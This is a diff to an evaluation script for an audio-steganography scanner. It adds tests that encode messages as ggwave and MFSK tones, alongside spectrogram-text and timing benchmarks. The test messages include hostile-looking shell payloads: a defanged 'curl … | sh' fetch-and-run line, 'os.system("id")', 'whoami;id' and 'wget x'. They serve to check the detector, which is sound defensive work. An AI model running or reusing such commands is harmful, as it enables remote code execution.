@@ -10,11 +10,17 @@
  * text-samples check fires), the real files' highest signal score, and the time to analyse a 3-minute 44.1 kHz
  * stereo file.
  *   node scripts/run-ts.mjs scripts/audio-eval.ts [--real DIR] [--quick] [--verbose] [--only SECTION,...]
- * Sections: clean, lsb, pm1, payload, steghide, notaudio, spectrogram, fsk, timing (all by default).
+ * Sections: clean, lsb, pm1, payload, steghide, notaudio, spectrogram, fsk, multitone, timing (all by default).
+ *   multitone: ggwave transmissions made with the ggwave library (every protocol, several payloads, 44.1/48/22.05 kHz,
+ *   alone and under music) and our own generic MFSK; the row notes how many ggwave's decoder read back exactly.
  */
 import fs from 'node:fs';
 import path from 'node:path';
 import { execFileSync, spawnSync } from 'node:child_process';
+import { createRequire } from 'node:module';
+import { defang } from '../src/decode/index.js';
+import { findMultitoneIn } from '../src/audio/multitone.js';
+import { computeSpectrogram } from '../src/audio/stft.js';
 import { analyzeFile, toScanFile } from '../src/analyzers/run.js';
 import { ANALYZERS } from '../src/analyzers/index.js';
 import { defaultOptions } from '../src/options.js';
@@ -356,6 +362,26 @@ async function main(): Promise<void> {
     await record('spectrogram text alone (15-19.5 kHz)', alone);
     await record('spectrogram text under music (4-10 kHz)', under);
     if (mp3.length) await record('spectrogram text under music, MP3 192k', mp3);
+    // the same text at the other rates packages ship: bands below each rate's Nyquist, 30-80 ms columns, 1-3 tones per
+    // font row (one tone per row leaves the rows hundreds of Hz apart: letters are dotted lines, not solid blocks)
+    const bands: Record<number, Array<[number, number]>> = {
+      16000: [[3000, 7000], [1500, 5500], [4000, 7600], [2000, 6000]],
+      22050: [[5000, 10000], [3000, 8000], [6000, 10500], [2500, 6500]],
+      32000: [[8000, 14000], [4000, 11000], [10000, 15500], [6000, 12000]],
+      48000: [[14000, 19000], [5000, 12000], [16000, 22000], [9000, 15000]],
+    };
+    const rated: Item[] = [];
+    for (let k = 0; k < (QUICK ? 8 : 20); k++) {
+      const rate = [16000, 22050, 32000, 48000][k % 4];
+      const [fLow, fHigh] = bands[rate][Math.floor(k / 4) % 4];
+      const w = words[(k * 3) % words.length];
+      const column = [0.03, 0.04, 0.05, 0.06, 0.08][k % 5];
+      const subRows = 1 + (k % 3);
+      const seconds = Math.ceil(0.5 + w.length * 6 * column);
+      const t = spectrogramText(w, seconds, { rate, fLow, fHigh, column, subRows });
+      rated.push({ name: `spec-${rate}-${fLow}-${fHigh}-c${column}-r${subRows}-${k}.wav`, data: wavFile(toInt16(t, true), { rate }) });
+    }
+    await record('spectrogram text alone, 16/22.05/32/48 kHz', rated);
   }
 
   // ---- FSK
@@ -379,6 +405,93 @@ async function main(): Promise<void> {
       }
     }
     await record(`FSK modem tones (${mm ? 'minimodem' : 'own generator'})`, items);
+  }
+
+  // ---- multi-tone data over sound (ggwave, generic MFSK)
+  if (want('multitone')) {
+    type GG = import('ggwave').GgwaveModule;
+    const gg = await (createRequire(import.meta.url)('ggwave') as (o: object) => Promise<GG>)({ print: () => undefined, printErr: () => undefined });
+    const encode = (text: string, protocol: string, rate: number, volume: number): Float32Array => {
+      const p = gg.getDefaultParameters();
+      p.sampleRateInp = rate;
+      p.sampleRateOut = rate;
+      const inst = gg.init(p);
+      try {
+        const wf = gg.encode(inst, text, gg.ProtocolId[`GGWAVE_PROTOCOL_${protocol}`], volume);
+        return new Float32Array(wf.buffer.slice(wf.byteOffset, wf.byteOffset + wf.byteLength));
+      } finally {
+        gg.free(inst);
+      }
+    };
+    const msgs = ['curl -s hxxp://203.0.113.5/p | sh', 'import os; os.system("id")', 'whoami;id', 'key=3f9a1c0b77e2d4a8', 'A'.repeat(40), 'https://example.org/update?id=12345'];
+    const N = QUICK ? 2 : 6;
+    for (const proto of ['AUDIBLE_NORMAL', 'AUDIBLE_FAST', 'AUDIBLE_FASTEST', 'ULTRASOUND_NORMAL', 'ULTRASOUND_FAST', 'ULTRASOUND_FASTEST', 'DT_NORMAL', 'DT_FAST', 'DT_FASTEST']) {
+      const items: Item[] = [];
+      const sent: string[] = [];
+      for (let k = 0; k < N; k++) {
+        const rate = proto.startsWith('ULTRA') ? [44100, 48000][k % 2] : [44100, 48000, 22050][k % 3];
+        const msg = msgs[k % msgs.length];
+        const tx = encode(msg, proto, rate, [10, 25, 50][k % 3]);
+        const lead = Math.round(rate * (0.3 + 0.2 * (k % 3)));
+        const x = new Float32Array(tx.length + 2 * lead);
+        x.set(tx, lead);
+        items.push({ name: `gg-${proto}-${k}.wav`, data: wavFile(toInt16(x, true), { rate }) });
+        sent.push(msg);
+        items.push({ name: `gg-${proto}-${k}-music.wav`, data: wavFile(toInt16(mix(music(x.length / rate, rate, 1500 + k, 0.2), x), true), { rate }) });
+        sent.push(msg);
+      }
+      const res = await record(`ggwave ${proto.toLowerCase()} (alone + under music)`, items);
+      const read = res.filter((r, i) => r.findings.some((f) => f.rule === 'audio.modem.multitone' && (f.evidence as { preview?: string } | undefined)?.preview === defang(new Uint8Array(Buffer.from(sent[i])), 200))).length;
+      rows[rows.length - 1].note = `ggwave decoded ${read}/${items.length}`;
+    }
+    // messages of two or three bytes: about a second of sound, mostly ggwave's start and end markers
+    const tiny: Item[] = [];
+    for (const [k, proto] of ['AUDIBLE_NORMAL', 'AUDIBLE_FAST', 'AUDIBLE_FASTEST', 'ULTRASOUND_FAST', 'DT_FAST', 'DT_FASTEST'].entries()) {
+      const rate = [44100, 48000][k % 2];
+      const tx = encode(['hi', 'ok!'][k % 2], proto, rate, 25);
+      const x = new Float32Array(tx.length + rate);
+      x.set(tx, rate / 2);
+      tiny.push({ name: `gg-tiny-${proto}.wav`, data: wavFile(toInt16(x, true), { rate }) });
+    }
+    await record('ggwave 2-3 byte messages (limit)', tiny);
+    const short: Item[] = [];
+    for (const [k, proto] of ['AUDIBLE_NORMAL', 'AUDIBLE_FAST', 'AUDIBLE_FASTEST', 'ULTRASOUND_NORMAL', 'ULTRASOUND_FASTEST', 'DT_NORMAL', 'DT_FAST', 'DT_FASTEST'].entries()) {
+      for (const [j, msg] of ['wget x', 'id;ls', 'abcdefgh'].entries()) {
+        const rate = [44100, 48000][(k + j) % 2];
+        const tx = encode(msg, proto, rate, 25);
+        const x = new Float32Array(tx.length + rate);
+        x.set(tx, rate / 2);
+        short.push({ name: `gg-short-${proto}-${j}.wav`, data: wavFile(toInt16(x, true), { rate }) });
+      }
+    }
+    await record('ggwave 5-8 byte messages', short);
+    // generic MFSK: groups of tones on a fine lattice, random data (not ggwave)
+    const items: Item[] = [];
+    for (let k = 0; k < (QUICK ? 4 : 12); k++) {
+      const r = rng(1600 + k);
+      const rate = [44100, 48000, 22050][k % 3];
+      const groups = [2, 4, 6][k % 3];
+      const per = 16;
+      const spacing = [31.25, 46.875, 62.5, 50][k % 4];
+      const f0 = 1000 + 250 * (k % 4);
+      if (f0 + groups * per * spacing > rate * 0.45) continue;
+      const len = Math.round(rate * [0.05, 0.08, 0.1, 0.128][k % 4]);
+      const x = new Float32Array(len * 40);
+      const ph = new Float64Array(groups);
+      for (let s = 0; s < 40; s++) {
+        const fs = Array.from({ length: groups }, (_, g) => f0 + (g * per + Math.floor(r() * per)) * spacing);
+        for (let i = 0; i < len; i++) {
+          let v = 0;
+          for (let g = 0; g < groups; g++) {
+            ph[g] += (2 * Math.PI * fs[g]) / rate;
+            v += Math.sin(ph[g]);
+          }
+          x[s * len + i] = (0.3 / groups) * v;
+        }
+      }
+      items.push({ name: `mfsk-${k}.wav`, data: wavFile(toInt16(k % 2 ? mix(music(x.length / rate, rate, 1700 + k, 0.2), x) : x, true), { rate }) });
+    }
+    await record('generic MFSK (own generator, half under music)', items);
   }
 
   // ---- report
@@ -423,6 +536,21 @@ async function main(): Promise<void> {
         lsbTimes.push(`WS ${(t2 - t1).toFixed(0)} + SPA ${(t3 - t2).toFixed(0)} + pairs/silence ${(performance.now() - t3).toFixed(0)} ms`);
       }
       console.log(`LSB statistics on it: ${lsbTimes.join(' / ')}`);
+    }
+  }
+  {
+    // the multi-tone search alone, on the shared spectrogram (what audio.modem.multitone adds to the modem analyzer)
+    const out = await audioWork(await toScanFile('long.wav', long.slice())).outcome;
+    const sp = out.ok ? computeSpectrogram(out.signal) : null;
+    if (out.ok && sp) {
+      const mt: number[] = [];
+      for (let k = 0; k < 7; k++) {
+        const t1 = performance.now();
+        findMultitoneIn(out.signal.mono, out.signal.sampleRate, sp);
+        mt.push(performance.now() - t1);
+      }
+      mt.sort((a, b) => a - b);
+      console.log(`multi-tone search on it: min ${mt[0].toFixed(0)}, median ${mt[3].toFixed(0)} ms (7 runs)`);
     }
   }
   const tAll = performance.now();
